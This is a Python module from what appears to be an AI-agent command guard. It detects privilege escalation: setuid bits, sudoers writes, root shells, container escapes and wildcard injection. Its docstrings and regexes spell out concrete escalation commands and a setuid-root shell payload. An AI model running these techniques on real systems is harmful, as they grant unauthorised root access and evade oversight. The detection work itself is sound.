"""Tactic family ``privilege``: becoming root, or letting anyone become root later.

PRIVILEGE (blocked by default):

- setuid and setgid bits on any file (``chmod u+s``, ``chmod 4755``, ``install -m 6755``,
  ``os.chmod(path, 0o4755)``), and file capabilities that amount to root
  (``setcap cap_setuid+ep``, any capability on a shell or an interpreter; any other capability
  is asked as SYSTEM_CONFIG);
- writes to the places that decide who may be root: sudoers (``/etc/sudoers.d``,
  ``/usr/local/etc/sudoers``), ``doas.conf``, PAM configuration and modules, polkit
  rules (rows of :mod:`agentbus.guards.locations`); any program given one of them
  that is not known only to read it (``vim``, ``gcc -o``, ``visudo -f``);
- a root shell (``sudo -s``, ``sudo su -``, ``pkexec bash``, ``sudo vim`` and the
  other programs with a shell escape), a password fed to ``sudo -S``, a user given
  uid 0 or put in a group whose members may act as root (``usermod -aG sudo``,
  ``gpasswd -a USER wheel``, ``adduser USER sudo``);
- a root program's own files turned against it: a link to a place root runs from left where a
  root program writes (``ln -s /etc/cron.hourly data``), a shell copy in ``/tmp`` run with ``-p``,
  code-choosing variables (``PERL5LIB``, ``LD_LIBRARY_PATH`` ...) pointed at ``/tmp`` for any program,
  ``MODPROBE_OPTIONS``, code written to a file that becomes root and starts a shell or sets a setuid
  bit, Exim's ``${run{``, ``patchelf`` on a system program, MySQL ``CREATE FUNCTION … SONAME``, a
  function named or exported as a program's path, ``PATH=.``, a debugger told to ``call system()``
  in a process it attaches to;
- exploits run: a program that names itself one (``./exploit``, ``./cve-2016-0728``), a shell's name
  run from a shared directory (``/tmp/sh``), an escalation kit told to attack (``traitor -a``,
  ``logrotten``), a set-user-ID helper run by hand (``enlightenment_sys``); a system service asked over
  D-Bus to create a user, set a password or install a package; ``sed`` rewriting root's entry or giving
  uid 0; a password piped into ``su``; a written line that copies a shell and sets its setuid bit;
- container escapes: ``docker run --privileged``, ``--pid=host``, the host's root or
  system directories mounted (``-v /:/host``), ``nsenter -t 1``, ``chroot`` into a
  mounted disk, mounting a disk, kubectl pods with ``privileged``/``hostPath``/``hostPID``
  and ``kubectl debug node/...``, the Docker API called through its socket; CDK's verbs (``cdk run``,
  ``cdk evaluate``), ``unshare`` mapping root with a cgroup namespace (without one: asked), ``capsh`` or
  ``setpriv`` taking uid 0, ``setns`` into pid 1's namespaces, a git build context that is an option
  (``#--upload-pack=``), ``searchsploit -m``.

SUDO_INSTALL (asked by default): installing or removing packages as root
(``sudo apt install``, ``sudo pip install``, ``sudo npm i -g``, ``sudo installer -pkg``,
``su -c 'apt-get install …'``), ``sudo make install`` and a project's script run as root.
The same commands without root (``pip install``, ``npm install -g``, ``brew install``)
are ordinary. ``sudo brew`` is asked too: Homebrew refuses to run as root, so whatever
the agent meant, a person should see it.
"""

from __future__ import annotations

import itertools
import os
import posixpath
import re
from collections.abc import Iterator

from ...lazy_regex import lazy_compile
from ..containers import BREAKOUT_CAPABILITIES, DEBUGGING_CAPABILITIES
from ..findings import finding as _verdict
from ..findings import looked_up_program
from ..findings import piece as _piece
from ..findings import static_args as _values
from ..interpreters import INTERPRETERS, fed_code, inline_code, runs_scripts
from ..locations import PROCESS_ROOT, location
from ..operands import block_device, operands
from ..options import option_values
from ..parse import WRITE_OPERATORS, Script, ShellSyntaxError
from ..paths import normalize_path
from ..programs import (
    RUN_LATER,
    SHELLS,
    Invocation,
    Layer,
    is_root_user,
    parse_nested,
    runs_as,
    shell_mode,
    walk,
    wrapper_option,
    written_text,
)
from ..request_bodies import WRITE_OPTIONS, request_options
from ..runtime_endpoints import READS, RUNS, engine_sockets, host_socket, kubelet_call, unusual_socket
from ..targets import reads_only
from ..transfers import DOWNLOADERS, download
from ..verdict import (
    BACKDOOR,
    CREDENTIALS,
    DEBUG_CONTAINER,
    ENGINE_SOCKET,
    EVIDENCE,
    PRIVILEGE,
    SCHEDULED,
    SERVICE,
    SERVICE_ATTACK,
    STEALTH_PERSISTENCE,
    SUDO_INSTALL,
    SYSTEM_CONFIG,
    SYSTEM_FILES,
    VOLUMES,
    Verdict,
)
from . import root_code
from .writes import located, writes

__all__ = ["COMPILERS", "exploit_name", "injected_option", "judge", "judge_script", "root_shell_code"]

_ROOT_WRAPPERS = frozenset({"sudo", "doas", "pkexec", "run0", "su"})
_MY_PLACES = frozenset({PRIVILEGE, SYSTEM_FILES})
"""/etc/sudoers and /etc/pam.d are system files too (visudo with a tee for an editor writes one)."""

_SETUID_MODE = lazy_compile(r"^0*[2-7][0-7]{3}$|(?:^|,)[ugoa]*[+=][rwxXt]*s")
_SETUID_CODE = lazy_compile(
    r"chmod\w*\s*\(?[^,()]*?,?\s*(?:0o?)?[4-7][0-7]{3}\b|S_IS[UG]ID|\bchmod\s+[ugoa]*\+s\b"
)
"""os.chmod(p, 0o4755), perl's chmod 04755, $f, Ruby's File.chmod(04755, f), a shell chmod u+s in code."""
_SETUID_ONLY = lazy_compile(r"^0*[4-7][0-7]{3}$|(?:^|,)(?:[go]*[ua][ugoa]*)?[+=][rwxXt]*s")
"""The setuid bit (setgid alone on a project directory is how a shared directory keeps its group)."""
_ROOT_CAPS = frozenset({
    "cap_setuid", "cap_setgid", "cap_sys_admin", "cap_dac_override", "cap_dac_read_search", "cap_sys_ptrace",
    "cap_sys_module", "cap_chown", "cap_fowner", "cap_fsetid", "cap_sys_rawio", "cap_setfcap", "cap_setpcap",
    "cap_sys_chroot", "cap_bpf", "cap_mknod", "cap_linux_immutable", "cap_sys_boot", "all",
})  # fmt: skip
"""Capabilities that are root by another name (each has a known way to a root shell)."""

_SHELL_ESCAPES = frozenset({
    "less", "more", "most", "man", "vi", "vim", "nvim", "view", "vimdiff", "ex", "ed", "nano", "pico",
    "emacs", "ftp", "gdb", "lldb", "tmux", "screen", "script", "mysql", "psql", "sqlite3", "journalctl",
    "git", "awk", "gawk", "mawk", "nawk", "find", "env", "expect", "busybox", "perl", "python", "python3",
    "ruby", "lua", "node", "php", "irb", "socat", "zip", "tar", "rsync", "nmap", "strace",
})  # fmt: skip
"""Programs that, run as root, give a root shell through their own means (GTFOBins)."""
_INTERACTIVE_ESCAPES = frozenset(
    {
        "less",
        "more",
        "most",
        "man",
        "vi",
        "vim",
        "nvim",
        "view",
        "vimdiff",
        "ex",
        "ed",
        "nano",
        "pico",
        "emacs",
        "ftp",
        "gdb",
        "lldb",
        "tmux",
        "screen",
        # less run by another name, and file managers and terminals with a key that opens a shell
        "zless",
        "zmore",
        "bzless",
        "bzmore",
        "xzless",
        "xzmore",
        "ranger",
        "mc",
        "nnn",
        "vifm",
        "lf",
    }
)
_SHELL_PATH = lazy_compile(
    r"/bin/(?:ba|da|z|k|c|tc|fi)?sh\b|\bsetuid\(0\)|\bsetresuid\(0|pty\.spawn|\bos\.exec"
    r"|(?:^|[\s'\"=(])(?:ba|da|z|k)?sh(?:\s+-[ci]|\s*#|\s*[)'\"]|$)"
)
"""A shell spawned from a program's arguments or code (``-exec /bin/sh``, ``-e 'sh -c …'``, ``'sh #'``)."""
_BECOME_ROOT_CODE = lazy_compile(
    r"\bset(?:e|re|res)?uid\(\s*0\b|\bsetgid\(\s*0\b|Process::UID\.change_privilege\(0"
)
"""Code that switches to uid 0: it only works with a capability or a setuid bit, the escalation itself."""
_EDITOR_TRICK = lazy_compile(r"^(?:SUDO_EDITOR|VISUAL|EDITOR)=.*\s--\s+(\S+)")
"""``EDITOR='vim -- /etc/sudoers' sudoedit FILE``: sudoedit opens the extra file as root (CVE-2023-22809)."""
_SECURITY_OPTS = lazy_compile(
    r"(?:apparmor|seccomp|label)[=:](?:unconfined|disable)|no-new-privileges[=:]false"
)
_HOST_NAMESPACES = frozenset({"--pid", "--userns", "--cgroupns", "--uts"})
_HOST_SHARED = frozenset({"--net", "--network", "--ipc"})
"""Host namespaces a container may share on its own (``--network host`` is ordinary), not beside
ptrace or confinement turned off (:data:`~agentbus.guards.verdict.DEBUG_CONTAINER`)."""
_HOST_DIRS = lazy_compile(
    r"^/(?:|etc|root|boot|proc|sys|dev|usr|var|lib|lib64|bin|sbin|home|Users|run|var/run|var/lib|private|System"
    r"|Library|opt|srv|mnt)/?$|^/(?:etc|root|boot|proc|sys|dev|var/lib/docker|var/lib/kubelet|home/[^/]+/\.ssh|"
    r"Users/[^/]+/\.ssh)(?:/|$)"
)
"""Host directories a container must not mount: the whole disk, its system and account files."""
_MEDIA = ("/mnt", "/media", "/run/media", "/Volumes")
_HARMLESS_HOST_FILES = frozenset({
    "/etc/localtime", "/etc/timezone", "/etc/resolv.conf", "/etc/hosts", "/etc/machine-id", "/etc/passwd",
    "/etc/group", "/etc/ssl/certs", "/etc/ca-certificates", "/etc/pki/ca-trust", "/usr/share/zoneinfo",
})  # fmt: skip
"""Host files containers commonly see, world-readable and secret-free."""
_CONTAINER_RUNNERS = frozenset({"docker", "podman", "nerdctl", "ctr", "crictl", "lima", "finch"})
_KUBE_DANGER = lazy_compile(
    r"[\"']?(?:privileged|hostPID|hostIPC|hostNetwork|allowPrivilegeEscalation)[\"']?\s*:\s*[\"']?true"
    r"|[\"']?hostPath[\"']?\s*:",
    re.IGNORECASE,
)

_PACKAGE_VERBS: dict[str, frozenset[str]] = {
    "apt": frozenset({"install", "reinstall", "remove", "purge", "autoremove", "upgrade", "full-upgrade",
                      "dist-upgrade", "build-dep", "autopurge"}),
    "apt-get": frozenset({"install", "reinstall", "remove", "purge", "autoremove", "upgrade",
                          "dist-upgrade", "build-dep", "autopurge"}),
    "aptitude": frozenset({"install", "reinstall", "remove", "purge", "upgrade", "safe-upgrade",
                           "full-upgrade"}),
    "dnf": frozenset({"install", "reinstall", "remove", "erase", "upgrade", "update", "downgrade",
                      "autoremove", "distro-sync", "group", "groupinstall", "localinstall", "swap"}),
    "yum": frozenset({"install", "reinstall", "remove", "erase", "upgrade", "update", "downgrade",
                      "autoremove", "groupinstall", "localinstall", "swap"}),
    "microdnf": frozenset({"install", "reinstall", "remove", "upgrade", "update"}),
    "zypper": frozenset({"install", "in", "remove", "rm", "update", "up", "dist-upgrade", "dup", "patch",
                         "addrepo", "ar", "removerepo", "rr", "modifyrepo", "mr"}),
    "apk": frozenset({"add", "del", "upgrade", "fix"}),
    "brew": frozenset({"install", "reinstall", "uninstall", "remove", "rm", "upgrade", "tap"}),
    "port": frozenset({"install", "uninstall", "upgrade", "selfupdate"}),
    "snap": frozenset({"install", "remove", "refresh", "revert"}),
    "flatpak": frozenset({"install", "uninstall", "update", "remove"}),
    "gem": frozenset({"install", "uninstall", "update"}),
    "pip": frozenset({"install", "uninstall"}),
    "pipx": frozenset({"install", "uninstall", "upgrade", "reinstall"}),
    "npm": frozenset({"install", "i", "add", "uninstall", "remove", "rm", "un", "update", "up", "link",
                      "ci"}),
    "pnpm": frozenset({"add", "install", "i", "remove", "rm", "update", "up", "link"}),
    "yarn": frozenset({"add", "global", "install", "remove"}),
    "cargo": frozenset({"install", "uninstall"}),
    "go": frozenset({"install"}),
    "conda": frozenset({"install", "remove", "update", "uninstall", "create"}),
    "mamba": frozenset({"install", "remove", "update", "uninstall", "create"}),
    "pkg": frozenset({"install", "add", "delete", "remove", "upgrade"}),
    "pkg_add": frozenset(),
    "pkg_delete": frozenset(),
    "emerge": frozenset(),
    "nix-env": frozenset({"-i", "--install", "-e", "--uninstall", "-u", "--upgrade"}),
    "opkg": frozenset({"install", "remove", "upgrade"}),
    "xbps-install": frozenset(),
    "xbps-remove": frozenset(),
    "installer": frozenset({"-pkg", "-package"}),
    "softwareupdate": frozenset({"-i", "--install", "-ia", "--install-rosetta", "--fetch-full-installer"}),
    "make": frozenset({"install", "uninstall"}),
    "cpan": frozenset(),
    "cpanm": frozenset(),
    "composer": frozenset({"global"}),
    "corepack": frozenset({"enable", "disable", "install"}),  # as root: shims next to the system's node
}  # fmt: skip
"""Package managers and the verbs that install or remove (empty: the program itself does)."""
_DPKG_VERBS = lazy_compile(
    r"^-(?:i|r|P|-install|-remove|-purge|-unpack|-configure|-add-architecture|-remove-architecture"
    r"|-set-selections)$|^-[A-Za-z]*[irP]$"
)
_PACMAN_VERBS = lazy_compile(r"^-(?:S|U|R)[A-Za-z]*$|^--(?:sync|upgrade|remove)$")
_RPM_VERBS = lazy_compile(r"^-(?:i|U|F|e)[A-Za-z]*$|^--(?:install|upgrade|freshen|erase|import)$")


def _user(name: str, values: list[str]) -> str | None:
    """The user a root wrapper run as a program of its own (``sudo -u dev -s``) names, if any."""
    return wrapper_option(Layer(name, tuple(values)), "u", "--user")


def _is_root(user: str | None) -> bool:
    """Whether ``user`` (None: not named, the wrapper's default) is root: by name, by uid, or by
    sudo's ``-u#-1`` (CVE-2019-14287)."""
    return user is None or is_root_user(user)


def _as_root(invocation: Invocation) -> bool:
    """Run through sudo/doas/pkexec/run0 as root (``sudo -u root``, ``sudo -u#0``; not ``sudo -u dev``)."""
    user = runs_as(invocation)
    return user is not None and _is_root(user)


# -- setuid bits and capabilities ---------------------------------------------------------------------


def _setuid(invocation: Invocation) -> Verdict | None:
    name = invocation.name
    values = _values(invocation)
    if name == "chmod":
        modes = [v for v in values if not v.startswith("-") or re.fullmatch(r"-[rwxXst]+", v)]
        mode = modes[0] if modes else ""
        targets = modes[1:]
        in_project = all(not t.startswith(("/", "~", "$")) and ".." not in t for t in targets)
        if _SETUID_MODE.search(mode) and (not in_project or _SETUID_ONLY.search(mode)):
            targets_shown = " ".join(targets) or "a file"
            return _verdict(PRIVILEGE, invocation, f"sets the setuid/setgid bit ({mode}) on {targets_shown}")
    if name in ("install", "mkdir", "rsync", "tar", "cp"):
        for index, value in enumerate(values):
            mode = values[index + 1] if value in ("-m", "--mode") and index + 1 < len(values) else ""
            mode = value.partition("=")[2] if value.startswith(("--mode=", "--chmod=")) else mode
            mode = value[2:] if value.startswith("-m") and len(value) > 2 else mode
            if mode and any(_SETUID_MODE.search(part) for part in re.split(r"[,:]", mode) if part):
                return _verdict(PRIVILEGE, invocation, f"installs a file with the setuid/setgid bit ({mode})")
    if name == "setcap":
        return _setcap(invocation, values)
    if INTERPRETERS.match(name):
        for code in (inline_code(invocation), *fed_code(invocation)):
            if code and _SETUID_CODE.search(code):
                return _verdict(PRIVILEGE, invocation, f"sets the setuid/setgid bit from {name}")
            if code and _BECOME_ROOT_CODE.search(code):
                return _verdict(PRIVILEGE, invocation, f"switches to uid 0 from {name}")
    return None


def _setcap(invocation: Invocation, values: list[str]) -> Verdict | None:
    operands = [v for v in values if not v.startswith("-")]
    if "-r" in values or len(operands) < 2:
        return None  # setcap -r removes; setcap -v verifies
    spec, files = operands[0], operands[1:]
    if "-v" in values:
        return None
    caps = {
        cap.strip().lower() for clause in spec.split() for cap in re.split(r"[=+-]", clause)[0].split(",")
    }
    given = set(re.findall(r"[=+]([eip]+)", spec))
    if not given and "=" not in spec:
        return None
    root = caps & _ROOT_CAPS or (not caps - {""} and "=" in spec)
    if root:
        shown = ", ".join(sorted(caps & _ROOT_CAPS)) or "every capability"
        return _verdict(PRIVILEGE, invocation, f"gives {shown} to {' '.join(files)}: root by another name")
    for file in files:
        base = file.rstrip("/").rsplit("/", 1)[-1]
        if runs_scripts(base):
            return _verdict(PRIVILEGE, invocation, f"gives capabilities to the interpreter {file}")
    # cap_net_raw (sniffing), cap_net_bind_service (ports below 1024): a privilege the program keeps for
    # whoever runs it; a developer's server may need one, an attacker's sniffer too: a person is asked.
    shown = ", ".join(sorted(caps - {""})) or "capabilities"
    return _verdict(SYSTEM_CONFIG, invocation, f"gives {shown} to {' '.join(files)}")


_SYSTEM_PROGRAMS = lazy_compile(
    r"^/(?:private/)?(?:etc|bin|sbin|boot|lib(?:32|64|x32)?|System|"
    r"usr/(?:bin|sbin|lib(?:32|64|x32|exec)?|share|local/bin|local/sbin))(?:/|$)"
)
"""The system's programs, libraries and configuration: whose permissions decide who may do what."""
_SYSTEM_LOG_PATHS = lazy_compile(r"^/(?:private/)?var/(?:log|audit|adm)(?:/|$)")
_ACL_VALUES = frozenset({"-m", "--modify", "-x", "--remove", "--set", "-M", "--modify-file", "-X",
                         "--remove-file", "--set-file", "--restore"})  # fmt: skip
_ACL_CHANGES = frozenset({"-b", "--remove-all", "-k", "--remove-default", *_ACL_VALUES})


def _acl(invocation: Invocation, home: str) -> Verdict | None:
    """``setfacl -m u::x /bin/chmod``, ``setfacl -m u:bob:rwx /usr/bin/sudo``: an ACL on a system program.

    An ACL grants or takes away what the mode bits say: a user given write on a system program
    or on ``/etc`` replaces what root runs, and execute taken from ``chmod`` or ``chattr`` locks
    the administrator out of repairing the machine (malware does both).
    """
    if invocation.name != "setfacl":
        return None
    values = _values(invocation)
    if "--test" in values:
        return None
    files: list[str] = []
    changes = False
    index = 0
    while index < len(values):
        value = values[index]
        option = value.partition("=")[0]
        cluster = value[1:] if value[:1] == "-" and value[1:2] != "-" else ""
        if option in _ACL_CHANGES or set(cluster) & set("mxbkMX"):
            changes = True
        if value in _ACL_VALUES or cluster[-1:] in ("m", "x", "M", "X"):
            index += 2
            continue
        if not value.startswith("-"):
            files.append(value)
        index += 1
    for file in files if changes else []:
        path = normalize_path(file, home=home, cwd=invocation.cwd)
        if _SYSTEM_PROGRAMS.match(path):
            return _verdict(PRIVILEGE, invocation, f"changes the ACL of {path}, a system program or setting")
        if _SYSTEM_LOG_PATHS.match(path):
            why = f"changes the ACL of {path}, the system's logs: someone may now rewrite or erase them"
            return _verdict(EVIDENCE, invocation, why)
    program = looked_up_program(invocation) if changes else None
    if program is not None:
        why = f"changes the ACL of the program {program} wherever the PATH finds it"
        return _verdict(PRIVILEGE, invocation, why)
    return None


# -- who may be root ----------------------------------------------------------------------------------


def _privilege_files(invocation: Invocation, home: str) -> Verdict | None:
    found = located(invocation, home, _MY_PLACES)
    if found is not None:
        return _verdict(found[0], invocation, found[1])
    if not invocation.name or reads_only(invocation):
        return None
    for operand in operands(invocation):
        if operand.role in ("pattern", "input"):
            continue
        value = operand.value.partition("=")[2] if operand.role == "option value" else operand.value
        place = location(value or operand.value, home=home, cwd=invocation.cwd)
        if place is not None and place[0] == PRIVILEGE:
            return _verdict(PRIVILEGE, invocation, f"{invocation.name} may write {operand.value}, {place[1]}")
    return None


_COMMAND_OPTION_NAME = lazy_compile(
    r"--checkpoint-action=exec|--to-command=|--use-compress-program=|--info-script=|--new-volume-script="
    r"|--rsh=|-e\s*\S+\s+\S|-e\s*(?:/bin/|/usr/bin/)?(?:ba|da|z|k)?sh\b|--unzip-command|--checkpoint=\d"
    r"|-TT\s*(?:=\s*)?\S|-o\s*ProxyCommand="
)
"""File names that are options making tar, rsync or zip run a command: a root job's ``tar cf x *`` in
that directory expands the glob into them and runs the attacker's script (wildcard injection); and
the action's companion ``--checkpoint=1`` (the action runs at each checkpoint). rsync's ``-e``
counts with a command and its argument, or a shell (``-e sh x.sh``, ``-esh``), not as any name that
starts ``-e`` (``-example.txt``); zip's ``-TT CMD`` (its test command) and scp's ``-o ProxyCommand=CMD``
likewise."""


_INJECTED_OPTION = lazy_compile(
    r"(?:^|(?<=\s))(?:--checkpoint-action=exec|--to-command=|--info-script=|--new-volume-script=|--unzip-command"
    r"|--use-compress-program=(?!\s*(?:gzip|pigz|zstd|xz|pixz|bzip2|pbzip2|lbzip2|lz4|lzip|plzip|lzma|lzop)\b)"
    r"|--rsh=(?!\s*ssh\b)|--rsync-path=|--exec=|-exec\s|--upload-pack=|--receive-pack="
    r"|-e\s*(?:/bin/|/usr/bin/)?(?:ba|da|z|k)?sh\b|-TT\s*(?:=\s*)?\S|-o\s*ProxyCommand=)"
)
"""Written text that is an option making tar, rsync, zip, find, git or ssh run a command
(``--checkpoint-action=exec=sh x``, ``-e sh x.sh``, ``--use-compress-program=/tmp/x``, ``--exec=!/tmp/x.sh``),
when a line or a field of the text starts with options: data a job passes on as arguments (a CSV of
names, a file list) carries the command (argument injection). A command line written into a script
(``tar --use-compress-program=zstd ...``) starts with its program, and is judged where it runs."""
_FIELD_SEPARATORS = lazy_compile(r"[\n,;\t|]")
_MAX_FIELDS = 200
"""The fields of a written text looked at (the text is bounded: :data:`..danger._MAX_WRITTEN`)."""


def injected_option(text: str) -> str | None:
    """The option in ``text`` (written into a file) that makes the program it is passed to run a
    command, when a line or a field starts with it (:data:`_INJECTED_OPTION`), else None."""
    if "-" not in text:
        return None
    for field in itertools.islice(_FIELD_SEPARATORS.split(text), _MAX_FIELDS):
        stripped = field.strip().strip("\"'` ").strip()
        found = _INJECTED_OPTION.search(stripped) if stripped.startswith("-") else None
        if found is not None:
            return stripped[found.start() :][:80]
    return None


_FILE_OPTION_NAME = lazy_compile(r"--reference=")
"""File names that are options making ``chown``/``chmod`` take another file's owner or mode: a root
job's ``chown -R www-data: *`` there gives every file the owner of the one named (wildcard injection).
``touch --reference=OLD NEW`` is touch's own option, so only a name that is surely a file counts
(after ``--``, a path to it: ``./--reference=x``, ``DIR/--reference=x``; a redirection's target), not
``touch --reference=/usr/bin/ssh x`` (touch's option, back-dating x: the impairment rules')."""


def _option_named_files(invocation: Invocation) -> Verdict | None:
    """``touch -- '--checkpoint-action=exec=sh x.sh'``: a file named as an option that runs code."""
    names: list[tuple[str, bool]] = []
    ended = False  # after ``--``: every word is a file's name
    for value in _values(invocation) if invocation.name == "touch" else ():
        names.append((value, ended or not value.startswith("-")))  # ./--reference=x, DIR/--reference=x
        ended = ended or value == "--"
    names += [
        (name, True)
        for r in invocation.command.redirects
        if r.op in WRITE_OPERATORS and (name := invocation.command.static(r.target))
    ]
    for name, surely_a_file in names:
        # ``--checkpoint-action=exec=/bin/sh``: the option's value may hold a slash; a path's last part
        base = name if name.startswith("-") else name.rsplit("/", 1)[-1]
        if not base.startswith("-"):
            continue
        if _COMMAND_OPTION_NAME.match(base):
            why = f"names a file {base}: a glob (tar *) run by another user turns it into a command"
            return _verdict(PRIVILEGE, invocation, why)
        if surely_a_file and _FILE_OPTION_NAME.match(base):
            why = f"names a file {base}: a glob (chown -R USER *) run by root turns it into an option"
            return _verdict(PRIVILEGE, invocation, why)
    return None


_ROOT_RUNS_FROM = ("/etc/", "/var/spool/", "/root/", "/lib/systemd/", "/usr/lib/systemd/")
_RUNS_AS_ROOT_LATER = frozenset({PRIVILEGE, SCHEDULED, SERVICE, STEALTH_PERSISTENCE})
"""Places whose content root runs or obeys (a cron directory, ``/etc/ld.so.preload``, sudoers, units)."""


def _planted_link(invocation: Invocation, home: str) -> Verdict | None:
    """``ln -s /etc/cron.hourly data``: a link to a place root runs from, left where a root program (a
    database's start-up, logrotate, a service's log) creates or hands over files: what it writes
    there, or gives the attacker, lands in that place (CVE-2016-1247, CVE-2017-14798 ...).

    A link made in such a place (``ln -s UNIT /etc/systemd/system/x.wants/``) is the persistence rules'.
    """
    if invocation.name != "ln":
        return None
    values = _values(invocation)
    positionals = [v for v in values if not v.startswith("-")]
    if len(positionals) != 2 or any(v in ("-t", "--target-directory") for v in values):
        return None
    target, name = positionals
    if not normalize_path(target, home=home, cwd=invocation.cwd).startswith(_ROOT_RUNS_FROM):
        return None
    place = location(target, home=home, cwd=invocation.cwd)
    if place is None or place[0] not in _RUNS_AS_ROOT_LATER:
        return None
    if location(name, home=home, cwd=invocation.cwd) is not None:
        return None
    why = f"links {name} to {target} ({place[1]}): what a root program writes there lands in it"
    return _verdict(PRIVILEGE, invocation, why)


_SHARED_DIRS = lazy_compile(r"^(?:/tmp|/var/tmp|/dev/shm|/private/tmp|/usr/tmp)/[^/]+$")
"""A file directly in a directory every account may write."""
_PRIVILEGED_FLAGS = frozenset({"-p", "-pi", "-ip", "-i", "-c"})


def _program_word(invocation: Invocation) -> str:
    """The program as written, after its wrappers (``timeout 5 /dev/shm/sh``: ``/dev/shm/sh``)."""
    command = invocation.command
    index = len(command.words) - len(invocation.args) - 1
    word = command.words[index] if 0 <= index < len(command.words) else None
    return (command.static(word) if word is not None else None) or ""


def _own_run(invocation: Invocation) -> tuple[str, str] | None:
    """How a program of one's own is run: the name of the path it is run by (``./pwn``, ``timeout 5
    /tmp/x``: ``pwn``, ``x``) and of the script a shell or an interpreter is given (``python3
    x/dirtyc0w.py``: ``dirtyc0w.py``), each ``""`` when not there. None for a bare name the PATH finds:
    an installed tool (pwntools' ``pwn cyclic 100``, ``ls --exploit``), where a kit is fetched or built."""
    program = _program_word(invocation)
    scripted = runs_scripts(invocation.name)
    if not scripted and "/" not in program:
        return None
    script = next((v for v in _values(invocation) if not v.startswith("-")), "") if scripted else ""
    return (program.rpartition("/")[2] if "/" in program else "", script.rpartition("/")[2])


def _copied_shell(invocation: Invocation) -> Verdict | None:
    """``/tmp/rootbash -p``: a program in a shared directory started with a shell's privileged-mode flag
    and nothing but shell flags after it: a shell copied there with the setuid bit, run keeping root."""
    program = _program_word(invocation)
    values = _values(invocation)
    if not program or not _SHARED_DIRS.match(program) or values[:1] != ["-p"]:
        return None
    if program.rpartition("/")[2].startswith("."):
        return None  # a hidden program in /tmp: :mod:`.hidden_runs` asks, whatever its flags
    rest = values[1:]
    if rest and (rest[0] not in _PRIVILEGED_FLAGS or (rest[0] == "-c" and len(rest) != 2)):
        return None
    why = f"runs {program} in privileged mode (-p): a shell copy that keeps a setuid root"
    return _verdict(PRIVILEGE, invocation, why)


_SHARED_PLACE = lazy_compile(
    r"(?:^|[\s:=,;])(?:/tmp|/var/tmp|/dev/shm|/private/tmp)"
    r"(?:/[^/\s:,;]+\.(?:so(?:\.\d+)*|pm|pl|py|rb|js|mjs|cjs|lua))?/?(?=$|[\s:,;])"
)
"""A directory every account may write, or a library or module directly in it, named in a variable's
value (``/tmp/build/lib``, a directory of one's own build, is not)."""


_PRELOADS = frozenset({"LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"})


def _code_from_shared_dirs(invocation: Invocation) -> Verdict | None:
    """``PERL5LIB=/tmp PERL5OPT=-Mroot /usr/exim/bin/exim -ps``, ``MODPROBE_OPTIONS='-d $PWD' ntfs-3g``:
    a variable that picks the code a program loads pointed at a directory anyone writes (or a kernel
    module search moved), for any program: a setuid program (exim, ntfs-3g) loads it as root."""
    for assignment in invocation.env:
        key, _, value = (invocation.command.static(assignment) or assignment).partition("=")
        if key == "MODPROBE_OPTIONS":
            return _verdict(PRIVILEGE, invocation, "moves where modprobe finds kernel modules for a program")
        if key in _PRELOADS:
            continue  # LD_PRELOAD=/tmp/x.so: the persistence rules' (a library injected into a program)
        if root_code.code_variable(key) and _SHARED_PLACE.search(value):
            program = invocation.name or "a program"
            why = f"{key}={value} loads code from a directory anyone may write, into {program}"
            return _verdict(PRIVILEGE, invocation, why)
    return None


_SETUID_CALL = lazy_compile(r"\bf?chmod\w*\s*\([^,()]*,\s*(?:0o?)?[4-7][0-7]{3}\s*\)|\bS_IS[UG]ID\b")
"""A program's own call that sets the bit (C's ``chmod(path, 04755)``, Python's ``os.chmod(p, 0o4755)``);
a shell script's ``chmod 4755`` written to a file is judged where the script runs."""


def root_shell_code(text: str) -> str | None:
    """Why ``text`` (a program's source) is a root shell's code: it switches to uid 0 and starts a shell,
    or sets a setuid/setgid bit; None when it does neither."""
    if _BECOME_ROOT_CODE.search(text) and root_code.SHELL_SPAWN.search(_BECOME_ROOT_CODE.sub("", text)):
        return "code that switches to uid 0 and starts a shell"
    if _SETUID_CALL.search(text):
        return "code that sets a setuid/setgid bit"
    return None


def _root_shell_source(invocation: Invocation) -> Verdict | None:
    """``echo 'int main(){setuid(0);system("/bin/sh");}' > /tmp/r.c``, ``cat <<EOF > lib.c`` with
    ``chmod("/tmp/sh", 04755)``: code written to a file that becomes root and starts a shell, or sets
    a setuid bit: the payload of an escalation, whatever compiles or loads it next."""
    text = _text_written(invocation)
    if not text:
        return None
    code = root_shell_code(text)
    if code is not None:
        return _verdict(PRIVILEGE, invocation, f"writes {code}")
    if _SHELL_COPIED.search(text) and _SETUID_SHELL_LINE.search(text):
        why = "writes a command line that copies a shell and sets its setuid bit, for whatever runs it"
        return _verdict(PRIVILEGE, invocation, why)
    return None


_SHELL_COPIED = lazy_compile(r"\b(?:cp|install|cat|rsync)\s+(?:-\S+\s+)*/(?:usr/)?bin/(?:ba|da|z|k|mk)?sh\b")
"""A shell binary copied (``cp /bin/sh /tmp/sh``, ``cp -p /bin/bash X``)."""
_SETUID_SHELL_LINE = lazy_compile(r"\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwx]*s|0*[4-7][0-7]{3})\b")
"""With the setuid (or setgid) bit set by a shell ``chmod`` in the same text: the recipe of a root shell
(``debugger_command = /bin/cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh`` in a mail server's configuration, a
cron script's line); ``chmod 4755 ./bin/tool`` alone, a project's own build step, is not."""


_SHELL_SETUID_LINE = lazy_compile(
    r"\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwx]*s[rwx]*|0*[4-7][0-7]{3})\s+(?:\S*/)?(?:ba|da|z|k|mk|r)?sh\b(?![.\w-])"
)
"""``chmod +s /bin/bash``, ``chmod 4755 /tmp/sh``: the setuid bit set on a shell, in a line written."""
_BARE_SHELL = lazy_compile(r"^(?:exec\s+)?(?:/usr)?(?:/bin/)?(?:ba|da|z|k|mk)?sh(?:\s+-[a-z]+)*\s*$")
"""A line that only starts a shell (``/bin/sh``, ``exec /bin/bash -p``, ``bash -i``)."""
_PRIVILEGED_MODE = lazy_compile(r"\s-[a-z]*p")
"""A shell's privileged-mode flag (``-p``, ``-ip``): it keeps the effective user of a setuid caller, which
nothing but a hijacked program or a root job's script needs."""
_HIJACKED_NAMES = frozenset({
    "ls", "cp", "mv", "cat", "id", "ps", "tar", "date", "whoami", "curl", "wget", "service", "ifconfig",
    "netstat", "find", "grep", "egrep", "sed", "awk", "rm", "mkdir", "chmod", "chown", "touch", "head",
